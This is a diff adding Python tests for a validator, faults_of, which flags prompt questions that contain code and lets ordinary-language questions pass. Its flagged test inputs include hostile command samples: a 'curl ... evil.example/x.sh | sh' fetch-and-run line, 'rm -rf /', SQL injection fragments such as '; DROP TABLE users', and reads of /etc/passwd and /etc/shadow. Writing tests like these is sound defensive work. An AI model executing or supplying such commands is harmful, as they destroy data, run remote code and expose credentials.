@@ -23,6 +23,7 @@ from mistakes_prompts.lines import where
 from mistakes_prompts.pack import Pack, in_language
 from mistakes_prompts.reading import read_pack
 from mistakes_prompts.shelf import files, read, shelf
+from mistakes_prompts.texts import faults_of
 
 GOOD = """\
 # a comment
@@ -140,6 +141,76 @@ def test_what_is_wrong_is_named_with_its_line(
     assert [str(path)] == list({one.path for one in wrong})
     assert [line] == [one.line for one in wrong if words in one.problem], wrong
     assert [] == [one.problem for one in wrong if said(one.problem, "zh") == one.problem]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("What does import os do here?", "Did os.system(1) run?", "Who calls subprocess.run([1])?"),
+        *(
+            "What is eval(x)?",
+            "What is eval ('x')?",
+            "Who ran rm -rf /?",
+            "Why lambda x: x?",
+            "Why lambda: 1?",
+        ),
+        *(
+            "Did curl http://evil.example/x.sh | sh work?",
+            "Who pipes it | sudo bash?",
+            "Did x | python3 run?",
+        ),
+        *("What now; DROP TABLE users?", "What; delete from users where 1?", "What; select * from users?"),
+        *("What; INSERT INTO t VALUES (1)?", "What; update t set a=1?", "Who reads ../../etc/passwd?"),
+        *("Who reads /etc/shadow?", "Who opens ..\\windows?", "Did print() work?", "Did open('x') work?"),
+        *("谁运行了os.system('x')？", "为什么 eval(x)？", "Who calls f(1, 2)?", "What is a.b(c)?"),
+    ],
+)
+def test_a_text_that_is_code_and_no_question_to_a_person_is_refused(text: str) -> None:
+    assert ["looks like code"] == [fault[:15] for fault in faults_of(text, question=True)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *("What (if anything) would you import?", "Which I/O, and/or which e.g. (a disk) was slow?"),
+        *("Which step would you drop; select one: where from?", "What did the data: say, and you?"),
+        *("Which person(s), mistake(s) or batch(es) was it?", "What was late; update the plan, or drop it?"),
+        *(
+            "What did the exec (your boss) say?",
+            "Your OKR(目标与关键结果)是什么？",
+            "你的KPI(指标)是什么？",
+            "是什么（如果有）？",
+        ),
+        *("On the Lambda: what failed first?", "Who did it ... or who did not?", "What went wrong, etc.?"),
+        *(
+            "Which imports (from abroad) did you drop?",
+            "Was it A | B, or a shell?",
+            "Who holds the rm -- or the key?",
+        ),
+        *(
+            "What evaluation (or grade) fits?",
+            "Which SLA(service level agreement) broke?",
+            "What is 1/2 of it?",
+        ),
+        *("Whom would you delete from the list; select whom?", "Did you stop at 10:30; create what then?"),
+        *("JavaScript: which part of it failed?", "14:05 | Node was full: what then?"),
+        *("Which table would you drop, if you had to?", "What does the import from China cost?"),
+    ],
+)
+def test_a_question_in_ordinary_words_is_no_code(text: str) -> None:
+    assert [] == [*faults_of(text, question=True)]
+
+
+@pytest.mark.parametrize("part", ["a", "a.", "; select a ", "import ", "| ", "../", "x_"])
+def test_a_text_of_any_length_is_looked_at_in_no_time(part: str) -> None:
+    assert [*faults_of(part * (200_000 // len(part)), question=False)]
+
+
+def test_a_field_that_there_is_not_is_told_in_a_short_line(tmp_path: Path) -> None:
+    (wrong,) = findings(tmp_path, GOOD.replace('fills = "conditions"', 'fills = "nonsense"'))
+
+    assert "there is no fills 'nonsense'; it takes actions, " in wrong.problem
+    assert len(wrong.problem) < 160
 
 
 def test_all_faults_are_told_at_once(tmp_path: Path) -> None:
